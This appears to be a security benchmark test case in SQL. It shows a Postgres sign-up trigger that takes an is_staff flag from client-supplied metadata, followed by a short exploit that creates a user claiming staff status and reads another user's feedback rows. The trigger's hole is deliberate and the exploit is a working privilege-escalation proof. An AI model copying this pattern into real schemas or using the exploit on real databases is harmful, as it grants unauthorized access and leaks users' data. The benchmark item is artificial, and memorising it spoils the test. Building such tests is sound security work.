-- channel: escalation
-- object: private.new_user
-- says: The sign-up trigger copies is_staff from the metadata the sign-up form sends.
create or replace function private.new_user()
returns trigger
language plpgsql security definer
set search_path = ''
as $$
begin
    insert into public.profiles (id, display_name, is_staff)
    values (
        new.id,
        coalesce(new.raw_user_meta_data ->> 'display_name', 'Somebody'),
        coalesce((new.raw_user_meta_data ->> 'is_staff')::boolean, false)
    )
    on conflict (id) do nothing;
    return new;
end
$$;
-- exploit as gotrue
insert into auth.users (id, email, raw_user_meta_data)
values ('e0000009-0000-4000-8000-000000000000', 'new@bench.test', '{"is_staff": true}');
-- exploit as mallory with {"sub": "e0000009-0000-4000-8000-000000000000"}
select from public.feedback where user_id = :bob;
-- leaks when rows
